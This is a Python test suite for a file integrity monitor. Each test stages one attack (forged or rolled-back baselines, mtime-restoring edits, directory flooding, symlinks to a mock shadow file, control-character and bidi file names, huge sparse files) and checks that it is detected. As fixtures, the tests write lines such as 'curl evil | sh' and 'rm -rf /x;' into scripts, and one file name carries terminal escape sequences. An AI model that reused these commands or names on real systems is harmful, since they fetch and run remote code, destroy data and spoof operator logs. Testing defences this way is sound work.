"""The attacker's view of file integrity monitoring: each test names the attack class it stands for."""

from __future__ import annotations

import json
import os
import time
from collections.abc import AsyncIterator
from pathlib import Path

import pytest
from sqlalchemy import delete, update

from opsroom.access.identity import Actor
from opsroom.errors import Invalid
from opsroom.integrity import baseline as signed
from opsroom.integrity import monitor, service
from opsroom.integrity.events import IntegrityChanged
from opsroom.integrity.models import IntegrityBaselineRow
from opsroom.integrity.render import announcement
from opsroom.integrity.snapshot import absolute, entry
from opsroom.runtime import Runtime
from tests.integrity.conftest import Tree, changes, make_tree, opened, wait_for

ADMIN = Actor("alice", "cli", frozenset({"admin"}), frozenset({"*"}))


@pytest.fixture
def tree(tmp_path: Path) -> Tree:
    return make_tree(tmp_path)


@pytest.fixture
async def rt(tree: Tree) -> AsyncIterator[Runtime]:
    async with opened(tree) as runtime:
        yield runtime


def _all_text(rt: Runtime) -> str:
    """Everything the events would carry to a room, the log and the API, announcement included."""
    return "\n".join(json.dumps(e.as_dict()) + "\n" + announcement(e) for e in changes(rt))


# --- storage tampering: a forged, deleted or rolled-back baseline --------------------------------


async def _forge(rt: Runtime, tree: Tree, *, resign_with: bytes | None) -> None:
    """Change restart.sh, then write its new facts into the stored baseline (re-signed with a key
    the attacker made up, or under the old signature)."""
    tree.restart.write_text("#!/bin/sh\ncurl evil | sh\n")
    forged = entry(absolute(tree.restart), max_hash_bytes=rt.settings.integrity_max_hash_bytes)
    assert forged is not None
    async with rt.write() as s:
        row = await s.get(IntegrityBaselineRow, service.scope(rt).site)
        assert row is not None
        entries = signed.decode(row.entries)
        entries[absolute(tree.restart)] = forged
        row.entries = signed.encode(entries)
        if resign_with is not None:
            row.signature = signed.sign(resign_with, site=row.site, generation=row.generation, entries=row.entries)


async def test_storage_tampering_a_baseline_edited_in_the_database_is_an_alarm(tree: Tree, rt: Runtime) -> None:
    """Attack: someone with write access to the database makes their change look accepted by
    writing the new file's facts into the baseline (and re-signing with a key they made up)."""
    await service.scan_now(rt, found_by="start")
    await _forge(rt, tree, resign_with=b"k" * 32)

    result = await service.scan_now(rt, found_by="scan")
    assert not result.baseline_ok
    (ev,) = changes(rt)
    assert ev.baseline_ok is False and ev.changes[0]["kinds"] == ["baseline"]
    assert sorted(ev.quarantined) == ["linked-prod", "restart-prod"]  # every protected runbook
    assert "INTEGRITY ALARM" in announcement(ev)
    for name in ("restart-prod", "linked-prod"):
        why = await service.refusal(rt, runbook=name)
        assert why is not None and "signature" in why
    assert await service.refusal(rt, runbook="restart-test") is None
    # Only a whole new baseline, by an admin, replaces an untrusted one.
    with pytest.raises(Invalid):
        await service.accept(rt, actor=ADMIN, paths=[str(tree.restart)])
    await service.accept(rt, actor=ADMIN)
    assert await service.refusal(rt, runbook="restart-prod") is None
    assert (await service.scan_now(rt, found_by="scan")).baseline_ok


async def test_storage_tampering_entries_edited_under_the_old_signature_are_found(tree: Tree, rt: Runtime) -> None:
    """Attack: edit the stored entries but leave the generation and signature columns as they were,
    hoping a reader trusts a copy it verified earlier."""
    await service.scan_now(rt, found_by="start")
    assert await service.refusal(rt, runbook="restart-prod") is None  # a verified copy is now cached
    await _forge(rt, tree, resign_with=None)
    assert not (await service.scan_now(rt, found_by="scan")).baseline_ok
    assert await service.refusal(rt, runbook="restart-prod") is not None


async def test_storage_tampering_a_deleted_baseline_is_not_silently_remade(tree: Tree, rt: Runtime) -> None:
    """Attack: delete the baseline row so that the next scan trusts the files as they are now
    (trust on first use, a second time) after changing a script."""
    await service.scan_now(rt, found_by="start")
    tree.restart.write_text("#!/bin/sh\ncurl evil | sh\n")
    async with rt.write() as s:
        await s.execute(delete(IntegrityBaselineRow))
    result = await service.scan_now(rt, found_by="scan")
    assert not result.baseline_ok and not result.created
    assert changes(rt)[0].changes[0]["new"] == {"baseline": "missing"}
    assert await service.refusal(rt, runbook="restart-prod") is not None


async def test_storage_tampering_a_rolled_back_baseline_is_an_alarm(tree: Tree, rt: Runtime) -> None:
    """Attack (replay): put back an older, validly signed baseline row to bring back a script
    version that was superseded (e.g. a vulnerable one)."""
    await service.scan_now(rt, found_by="start")
    async with rt.read() as s:
        old = await s.get(IntegrityBaselineRow, service.scope(rt).site)
        assert old is not None
        saved = (old.generation, old.entries, old.texts, old.signature)
    tree.restart.write_text("#!/bin/sh\necho fixed version\n")
    await service.scan_now(rt, found_by="scan")
    await service.accept(rt, actor=ADMIN, paths=[str(tree.restart)])
    tree.restart.write_text("#!/bin/sh\necho restarting\n")  # the old, superseded body
    async with rt.write() as s:
        await s.execute(update(IntegrityBaselineRow).values(generation=saved[0], entries=saved[1], texts=saved[2],
                                                            signature=saved[3]))
    result = await service.scan_now(rt, found_by="scan")
    assert not result.baseline_ok
    assert changes(rt)[-1].changes[0]["new"] == {"baseline": "rolled back"}
    assert await service.refusal(rt, runbook="restart-prod") is not None


# --- evasion: a change made and reverted between scans, within mtime granularity ----------------


async def test_evasion_a_same_size_edit_with_its_mtime_put_back_is_found(tree: Tree, rt: Runtime) -> None:
    """Attack: defeat a scanner that trusts size and mtime (rsync's quick check): same length,
    mtime restored to the nanosecond."""
    await service.scan_now(rt, found_by="start")
    before = os.stat(tree.restart)
    body = tree.restart.read_bytes()
    tree.restart.write_bytes(body.replace(b"restarting", b"rm -rf /x;"))
    os.utime(tree.restart, ns=(before.st_atime_ns, before.st_mtime_ns))
    assert os.stat(tree.restart).st_mtime_ns == before.st_mtime_ns and os.stat(tree.restart).st_size == before.st_size
    await service.scan_now(rt, found_by="scan")
    (change,) = changes(rt)[0].changes
    assert "content" in change["kinds"] and "mtime" not in change["kinds"]


async def test_evasion_a_change_reverted_before_the_rescan_leaves_its_mark(tree: Tree, rt: Runtime) -> None:
    """Attack: change a script, let it run, put every byte and the mtime back before the next
    rescan. The rescan alone still sees the ctime, which no user can set back; the watcher saw it
    happen."""
    handle = await monitor.start(rt)
    handle.monitor.unwatch()  # the rescan alone first
    try:
        before = os.stat(tree.restart)
        body = tree.restart.read_bytes()
        time.sleep(0.01)  # past the kernel's timestamp granularity for ctime, as any later attack is
        tree.restart.write_bytes(b"#!/bin/sh\nevil\n")
        tree.restart.write_bytes(body)
        os.utime(tree.restart, ns=(before.st_atime_ns, before.st_mtime_ns))
        await service.scan_now(rt, found_by="scan", sc=handle.monitor.scope)
        (change,) = changes(rt)[0].changes
        assert change["kinds"] == ["touched"]
        assert await service.refusal(rt, runbook="restart-prod") is not None  # reviewed before it runs again

        await service.accept(rt, actor=ADMIN)
        await asyncio_to_thread(handle.monitor.watch)
        tree.restart.write_bytes(b"#!/bin/sh\nevil\n")
        tree.restart.write_bytes(body)
        os.utime(tree.restart, ns=(before.st_atime_ns, before.st_mtime_ns))
        await wait_for(rt, lambda c: c["path"] == absolute(tree.restart), found_by="watch")
    finally:
        await monitor.stop(handle)


async def asyncio_to_thread(fn: object) -> None:
    import asyncio

    await asyncio.to_thread(fn)  # type: ignore[arg-type]


# --- blinding: flood a tree past the file limit, open a directory to everyone ------------------


async def test_blinding_a_tree_flooded_past_the_file_limit_is_itself_a_change(tree: Tree) -> None:
    """Attack: add more files than the scanner will read, so that the tree is skipped and a change
    inside it goes unseen (and its files would read as deleted)."""
    async with opened(tree, integrity_max_files=10) as rt:
        await service.scan_now(rt, found_by="start")
        for n in range(20):
            (tree.catalog / f"flood-{n}.txt").write_text("x\n")
        (tree.catalog / "catalog.yaml").write_text((tree.catalog / "catalog.yaml").read_text() + "# hidden edit\n")
        result = await service.scan_now(rt, found_by="scan")
        (ev,) = changes(rt)
        assert [(c["path"], c["kinds"]) for c in ev.changes] == [(absolute(tree.catalog), ["unscanned"])]
        assert "deleted" not in str(ev.changes) and result.problems
        assert sorted(ev.quarantined) == ["linked-prod", "restart-prod"]  # defined in the flooded tree
        assert await service.refusal(rt, runbook="restart-prod") is not None
        with pytest.raises(Invalid):
            await service.accept(rt, actor=ADMIN)


async def test_blinding_a_watched_directory_opened_to_everyone_quarantines_what_is_below(tree: Tree,
                                                                                        rt: Runtime) -> None:
    """Attack: make the catalog directory world-writable (anyone may then swap a file in it later)."""
    await service.scan_now(rt, found_by="start")
    tree.catalog.chmod(0o777)
    await service.scan_now(rt, found_by="scan")
    (change,) = changes(rt)[0].changes
    assert change["path"] == absolute(tree.catalog) and change["kinds"] == ["permissions"]
    why = await service.refusal(rt, runbook="restart-prod")
    assert why is not None and "permissions" in why


# --- disclosure: links out of the tree ---------------------------------------------------------


async def test_disclosure_a_symlink_out_of_the_tree_is_described_never_followed(tree: Tree, rt: Runtime) -> None:
    """Attack: plant a link to a secret file (or to /) in a watched tree so that the scanner reads
    it into a diff or an announcement, or walks the whole filesystem."""
    secret = tree.root / "outside" / "shadow"
    secret.parent.mkdir()
    secret.write_text("root:TOPSECRET-HASH-4242:19000:0:99999:7:::\n")
    await service.scan_now(rt, found_by="start")
    (tree.catalog / "leak.yaml").symlink_to(secret)
    (tree.catalog / "everything").symlink_to("/")
    conf = tree.extra / "app.conf"  # a diffable text file, swapped for a link to the secret
    conf.unlink()
    conf.symlink_to(secret)
    started = time.monotonic()
    await service.scan_now(rt, found_by="scan")
    assert time.monotonic() - started < 10  # / was not walked
    found = {c["path"]: c for c in changes(rt)[0].changes}
    assert found[absolute(tree.catalog / "leak.yaml")]["new"]["target"] == str(secret)  # type: ignore[index]
    assert found[absolute(conf)]["diff"] is None and "type" in found[absolute(conf)]["kinds"]  # type: ignore[operator]
    assert not any(p.startswith("/etc") for p in found)
    assert "TOPSECRET" not in _all_text(rt)
    async with rt.read() as s:
        row = await s.get(IntegrityBaselineRow, service.scope(rt).site)
        assert row is not None and "TOPSECRET" not in row.texts + row.entries
    await service.accept(rt, actor=ADMIN)
    async with rt.read() as s:
        row = await s.get(IntegrityBaselineRow, service.scope(rt).site)
        assert row is not None and "TOPSECRET" not in row.texts and "/etc/passwd" not in row.entries


# --- injection: control characters in names and contents --------------------------------------


async def test_injection_a_file_name_with_control_characters_stays_one_escaped_line(tree: Tree, rt: Runtime) -> None:
    """Attack: a file name that, printed raw, starts a line of its own reading like the bot's
    (`[PROD] all clear`), hides a terminal link, or reverses text with a bidi override."""
    await service.scan_now(rt, found_by="start")
    name = "x\n[PROD] all clear, nothing changed\x1b]8;;https:evil\x07\u202egnp.sh"
    (tree.extra / name).write_text("a\n")
    undecodable = os.fsdecode(b"bad-\xff-name")
    (tree.extra / undecodable).write_text("b\n")
    conf = tree.extra / "app.conf"
    conf.write_text("listen 8080\n\x1b[2J\x1b]0;pwned\x07line\r\n")
    await service.scan_now(rt, found_by="scan")
    (ev,) = changes(rt)
    text = announcement(ev)
    for line in text.split("\n"):
        assert not line.startswith("[PROD] all clear")
    assert "\x1b" not in text and "\u202e" not in text and "\r" not in text and "\x07" not in text
    assert "x\\n[PROD] all clear" in text and "\\x1b" in text and "\\u202e" in text and "bad-\\xff-name" in text
    assert all("\n" not in str(c["path"]) for c in ev.changes)
    json.dumps(ev.as_dict(), ensure_ascii=False).encode("utf-8")  # no lone surrogate reaches the log
    diff = next(c["diff"] for c in ev.changes if c["path"] == absolute(conf))
    assert isinstance(diff, str) and "\x1b" not in diff and "\\x1b[2J" in diff


# --- resource exhaustion: a huge file, a FIFO -----------------------------------------------------


async def test_exhaustion_a_huge_sparse_file_and_a_fifo_do_not_stall_the_scan(tree: Tree) -> None:
    """Attack: make the scanner read 64 GiB (a sparse file costs no disk) or block forever on a
    named pipe, so that changes made meanwhile go unseen."""
    async with opened(tree, integrity_max_hash_bytes=1024 * 1024, integrity_max_diff_bytes=4096) as rt:
        huge = tree.extra / "huge.log"
        with huge.open("wb") as f:
            f.truncate(64 * 1024**3)
        os.mkfifo(tree.extra / "pipe")
        big_text = tree.extra / "big.txt"
        big_text.write_text("line\n" * 2000)  # 10 kB of text: over the diff limit
        started = time.monotonic()
        await service.scan_now(rt, found_by="start")
        assert time.monotonic() - started < 10
        with huge.open("r+b") as f:  # a change far past the hashed head
            f.seek(60 * 1024**3)
            f.write(b"payload")
        big_text.write_text("line\n" * 1999 + "evil\n")
        await service.scan_now(rt, found_by="scan")
        found = {c["path"]: c for c in changes(rt)[0].changes}
        assert {"mtime"} <= set(found[absolute(huge)]["kinds"])  # type: ignore[arg-type]
        assert found[absolute(huge)]["new"]["hashed"] == 1024 * 1024  # type: ignore[index]
        big = found[absolute(big_text)]
        assert "content" in big["kinds"] and big["diff"] is None  # type: ignore[operator]
        assert absolute(tree.extra / "pipe") not in found


async def test_the_event_survives_the_durable_log(tree: Tree, rt: Runtime) -> None:
    """The event is in the event log (other servers and the announcer read it), not only on the bus."""
    from opsroom.eventlog import log as eventlog

    await service.scan_now(rt, found_by="start")
    tree.restart.chmod(0o700)
    await service.scan_now(rt, found_by="scan")
    logged = [e for _, e in await eventlog.read_after(rt, eventlog.START) if isinstance(e, IntegrityChanged)]
    assert [c["kinds"] for c in logged[0].changes] == [["permissions"]]
    assert logged[0].quarantined == ["restart-prod"]
